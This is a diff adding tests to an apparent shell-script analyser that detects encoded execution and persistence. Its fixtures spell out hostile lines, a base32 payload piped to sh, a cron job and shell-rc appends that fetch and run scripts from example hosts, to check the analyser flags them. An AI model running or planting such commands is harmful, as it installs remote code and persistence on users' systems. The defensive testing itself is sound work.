@@ -69,3 +69,26 @@ def test_runs_download_finds_a_fetch_and_run_in_text() -> None:
 def test_unbalanced_quotes_and_long_lines_do_not_raise() -> None:
     assert shell.analyse("echo 'oops", "a", 1).facts == ()
     assert isinstance(shell.analyse("a | " * 5000, "a", 1), shell.ShellResult)
+
+
+def test_a_whole_script_follows_variables_heredocs_groups_and_loops() -> None:
+    decoded = shell.analyse_script('#!/bin/sh\nh="MN2XE3A="\necho "$h" | base32 -d | sh\n', "s.sh")
+    assert any(f.kind == DYNAMIC_EXEC and "decoded" in {s.kind for s in f.carries}
+               for f in decoded.facts)
+    cron = shell.analyse_script(
+        '#!/bin/bash\nj="*/5 * * * * curl -fsS https://m.example/x | sh"\n'
+        '( crontab -l; echo "$j" ) | crontab -\n', "s.sh")
+    [fact] = [f for f in cron.facts if f.kind == PERSISTENCE]
+    assert {s.kind for s in fact.carries} == {"fetched"} and fact.line == 3
+    rc = shell.analyse_script(
+        "#!/bin/bash\nB=$(cat <<'RC'\n(curl -s https://t.example/u.sh | sh &)\nRC\n)\n"
+        'for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do\n  printf "%s" "$B" >> "$rc"\ndone\n',
+        "s.sh")
+    written = [f for f in rc.facts if f.kind == PERSISTENCE]
+    assert {f.value for f in written} == {"~/.bashrc", "~/.zshrc"}
+    assert all("fetched" in {s.kind for s in f.carries} for f in written)
+
+
+def test_a_plain_script_has_nothing_to_say() -> None:
+    result = shell.analyse_script("#!/bin/sh\nset -e\ncd build\nmake -j4\necho done\n", "b.sh")
+    assert result.facts == ()
